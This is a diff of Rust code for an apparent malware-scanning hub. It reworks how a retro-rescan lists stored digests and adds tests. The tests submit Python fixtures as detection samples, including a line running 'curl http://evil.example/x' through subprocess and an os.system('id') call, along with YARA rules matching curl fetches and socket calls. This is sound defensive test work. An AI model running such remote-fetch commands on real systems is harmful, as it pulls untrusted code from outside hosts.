@@ -242,7 +242,7 @@ fn post(terms: &mut Vec<Term>, arena: &mut Arena, id: &mut u32, prov: TermProven
 
 /// The inverted content index: folded 3-gram → digest slots, tagged by
 /// provenance. Kept under the artifact store's retro lock and synced to
-/// the resident artifacts there, before each hunt or rescan reads it
+/// the resident artifacts there, before each hunt reads it
 /// ([`RetroIndex::diff`], [`RetroIndex::sync`]).
 ///
 /// Slots are handed out in ascending order and never reused before a
@@ -646,7 +646,8 @@ pub struct RetroReport {
     /// hex digest (a retro-hunt sees content, not the upload names that
     /// referenced it); `flows` is empty.
     pub verdicts: Vec<(String, Verdict)>,
-    /// Digests resident in the index when the hunt ran.
+    /// Digests resident in the index when the hunt ran; for the rescan,
+    /// the digests resident in the artifact store.
     pub digests_indexed: u64,
     /// Total per-rule candidate nominations (a digest nominated by two
     /// rules counts twice).
@@ -862,13 +863,14 @@ pub(crate) fn hunt(
     Some(report)
 }
 
-/// [`crate::ScanHub::retro_rescan`]: every digest of the synced index
-/// against every changed rule, no candidate query made, no clock read,
-/// no counter, histogram or artifact recency touched.
-pub(crate) fn rescan(store: &ArtifactStore, deployment: &RuleDeployment) -> Option<RetroReport> {
+/// [`crate::ScanHub::retro_rescan`]: every resident digest, listed by
+/// the store and not by the retro index, against every changed rule, no
+/// candidate query made, no clock read, no counter, histogram or artifact
+/// recency touched.
+pub(crate) fn rescan(store: &ArtifactStore, deployment: &RuleDeployment) -> RetroReport {
     let _tag = Stage::nested();
-    let mut untimed = StageClock::start(None, Stage::RetroSync);
-    let all = store.with_retro(&mut untimed, Stage::Idle, RetroIndex::all_digests)?;
+    let mut untimed = StageClock::start(None, Stage::Idle);
+    let all = store.residents();
     let changed = &deployment.delta.changed;
     let hits = |rule| RetroRuleHits::unconfirmed(rule, all.len());
     let report = RetroReport {
@@ -877,12 +879,8 @@ pub(crate) fn rescan(store: &ArtifactStore, deployment: &RuleDeployment) -> Opti
         full_candidacy_rules: changed.len() as u64,
         ..RetroReport::default()
     };
-    let tasks = all
-        .iter()
-        .map(|&(d, _)| (d, deployment.routing(true)))
-        .collect();
-    let report = confirm_scan(deployment, None, tasks, report, store, &mut untimed);
-    Some(report)
+    let tasks = all.iter().map(|&d| (d, deployment.routing(true))).collect();
+    confirm_scan(deployment, None, tasks, report, store, &mut untimed)
 }
 
 #[cfg(test)]
@@ -1077,23 +1075,70 @@ mod tests {
     }
 
     #[test]
-    fn retro_hunt_is_unavailable_without_cache_or_index() {
+    fn only_the_hunt_needs_the_retro_index() {
+        // A store that keeps nothing has an empty history to hunt and
+        // rescan.
         let no_cache = hub(HubConfig {
             artifact_cache_capacity: 0,
             ..HubConfig::default()
         });
+        let _ = no_cache.submit(request("print('x')\n")).wait();
         let deployment =
             no_cache.deploy_rules(Some(yara_engine::compile(YARA).expect("yara")), None);
-        assert!(no_cache.retro_hunt(&deployment).is_none());
-        assert!(no_cache.retro_rescan(&deployment).is_none());
+        let hunt = no_cache
+            .retro_hunt(&deployment)
+            .expect("retro index enabled");
+        let rescan = no_cache.retro_rescan(&deployment).expect("rescan");
+        assert_eq!((hunt.digests_indexed, rescan.digests_indexed), (0, 0));
+        // Without an index there is no hunt; the rescan reads the store.
         let no_index = hub(HubConfig {
             retro_index: false,
             ..HubConfig::default()
         });
         let _ = no_index.submit(request("print('x')\n")).wait();
         assert!(no_index.retro_hunt(&deployment).is_none());
+        let rescan = no_index.retro_rescan(&deployment).expect("rescan");
+        assert_eq!(rescan.digests_indexed, 1);
         let stats = no_index.stats();
         assert_eq!((stats.retro_index_atoms, stats.retro_index_digests), (0, 0));
+    }
+
+    #[test]
+    fn a_rescan_without_the_index_finds_what_one_with_it_finds() {
+        let next = format!(
+            "{YARA}\nrule curl_fetch {{ strings: $a = \"curl http\" condition: $a }}\n\
+             rule sock_call {{ strings: $a = \"socket()\" condition: $a }}\n"
+        );
+        let rescan = |retro_index| {
+            let hub = hub(HubConfig {
+                workers: 1,
+                retro_index,
+                ..HubConfig::default()
+            });
+            for (i, code) in [
+                "import os\nos.system('id')\n",
+                "import socket\nsocket.socket()\n",
+                "print('benign upload')\n",
+                "import subprocess\nsubprocess.run('curl http://evil.example/x')\n",
+            ]
+            .iter()
+            .enumerate()
+            {
+                let _ = hub
+                    .submit(ScanRequest::from_source(format!("pkg{i}.py"), *code))
+                    .wait();
+            }
+            let deployment = hub.deploy_rules(
+                Some(yara_engine::compile(&next).expect("yara")),
+                Some(semgrep_engine::compile(SEMGREP).expect("semgrep")),
+            );
+            hub.retro_rescan(&deployment).expect("rescan")
+        };
+        let (with, without) = (rescan(true), rescan(false));
+        assert!(without.same_hits(&with), "{without:?}\nvs\n{with:?}");
+        assert_eq!(without.digests_indexed, 4);
+        // Vacuity guard: each new rule confirmed its one carrier.
+        assert!(with.rules.iter().all(|r| r.digests.len() == 1), "{with:?}");
     }
 
     // ---- The rolling collector against the per-byte hash sets it
